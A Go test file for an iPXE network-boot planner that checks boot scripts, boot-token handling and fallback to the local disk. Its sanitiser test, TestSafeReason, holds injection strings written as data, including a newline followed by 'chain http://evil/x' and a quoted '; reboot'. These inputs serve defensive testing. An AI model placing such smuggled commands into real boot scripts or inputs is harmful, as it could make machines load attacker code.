package netboot

import (
	"regexp"
	"strings"
	"testing"
	"time"

	"google.golang.org/grpc"

	"github.com/imagefarm/imagefarm/controller/tokens"
	imagefarmv1 "github.com/imagefarm/imagefarm/proto/imagefarm/v1"
	"github.com/imagefarm/imagefarm/tests/testenv/farm"
)

// TestControllerPlannerAsksPlanBoot: with a real controller, a machine no
// job wants gets the local-boot script; once a device job has room, the
// deploy environment with a one-time boot token and the controller's
// address on its kernel command line; and when the controller refuses
// the boot service (a revoked or wrong token) or cannot be reached, the
// local disk, logged.
func TestControllerPlannerAsksPlanBoot(t *testing.T) {
	f := farm.Start(t, farm.Options{HeartbeatTTL: 5 * time.Second, CatalogScanInterval: -1, PushImage: true})
	devices := func(secret string) imagefarmv1.DeviceServiceClient {
		return imagefarmv1.NewDeviceServiceClient(f.Dial(t, f.ClientCreds(t, ""), grpc.WithPerRPCCredentials(tokens.Bearer{Secret: secret})))
	}
	op := f.Token(t, "netboot", imagefarmv1.Role_ROLE_OPERATOR)
	script := func(t *testing.T, p Planner) (string, string) {
		t.Helper()
		var log logBuffer
		cfg := loopbackConfig(t, newBootFiles(t).files, &log)
		cfg.Planner, cfg.KernelArgs = p, []string{"console=ttyS0"}
		start(t, cfg)
		code, body := httpGet(t, cfg, "/plan.ipxe?mac=52-54-00-12-34-56&arch=bios")
		if code != 200 {
			t.Fatalf("plan script = %d %q, want 200", code, body)
		}
		return body, log.String()
	}
	planner := ControllerPlanner{Devices: devices(op), Controller: f.Addr, Args: []string{"imagefarm.insecure=1"}}

	body, _ := script(t, planner)
	if want := "echo imagefarm: an unknown machine, and no device job has room: it boots its local disk\n"; !strings.Contains(body, want) ||
		!strings.Contains(body, "sanboot --no-describe --drive 0x80") || strings.Contains(body, "kernel") {
		t.Fatalf("no device job: script =\n%s\nwant %q and sanboot, no kernel", body, want)
	}

	targets := &imagefarmv1.Targets{Kind: &imagefarmv1.Targets_Devices{Devices: &imagefarmv1.DeviceList{
		Devices: []*imagefarmv1.DeviceTarget{{Serial: "5CG0001XYZ"}}}}}
	if _, err := f.API.SubmitJob(t.Context(), &imagefarmv1.SubmitJobRequest{ImageRef: "img:1", Targets: targets}); err != nil {
		t.Fatalf("SubmitJob --device: %v", err)
	}
	body, _ = script(t, planner)
	kernel := regexp.MustCompile(`(?m)^kernel \S+/files/local/vmlinuz initrd=initramfs console=ttyS0 BOOTIF=01-52-54-00-12-34-56 ` +
		`imagefarm\.token=(ifb_[A-Za-z0-9_-]+) imagefarm\.controller=` + regexp.QuoteMeta(f.Addr) + ` imagefarm\.insecure=1 \|\| goto local$`)
	if !kernel.MatchString(body) || !strings.Contains(body, "echo imagefarm: an unknown machine, and job ") {
		t.Fatalf("device job with room: script =\n%s\nwant a kernel line matching %s", body, kernel)
	}

	for name, p := range map[string]ControllerPlanner{
		"wrong token":         {Devices: devices("ift_not-a-token"), Controller: f.Addr},
		"viewer's token":      {Devices: devices(f.Token(t, "viewer", imagefarmv1.Role_ROLE_VIEWER)), Controller: f.Addr},
		"controller not here": {Devices: imagefarmv1.NewDeviceServiceClient(f.Dial(t, f.ClientCreds(t, ""))), Controller: "127.0.0.1:1"},
	} {
		t.Run(name, func(t *testing.T) {
			body, log := script(t, p)
			if !strings.Contains(body, "echo imagefarm: the farm could not plan this boot, booting the local disk") ||
				strings.Contains(body, "kernel") || !strings.Contains(log, "plan boot: booting the local disk") {
				t.Errorf("script =\n%s\nlog:\n%s\nwant the local disk, logged", body, log)
			}
		})
	}
}

// TestSafeReason: whatever a controller's reason quotes (a serial with
// quotes, '$', a newline, a model in UTF-8), the script can echo it.
func TestSafeReason(t *testing.T) {
	for _, in := range []string{
		`no job wants device 5CG"; reboot (HP ${net0/mac})`,
		"serial a\nchain http://evil/x",
		"model Küchen-PC ✓ 'quoted' `cmd` \\ # | & ;",
		strings.Repeat("x", 500),
		"",
	} {
		got := SafeReason(in)
		if err := checkReason(got); err != nil {
			t.Errorf("SafeReason(%q) = %q, which checkReason refuses: %v", in, got, err)
		}
	}
	if got, want := SafeReason(`device 5CG"1 (HP)`), "device 5CG?1 (HP)"; got != want {
		t.Errorf("SafeReason = %q, want %q", got, want)
	}
	if got := SafeReason(strings.Repeat("é", 300)); len(got) != maxReason {
		t.Errorf("SafeReason(300 x é) is %d bytes, want %d", len(got), maxReason)
	}
}
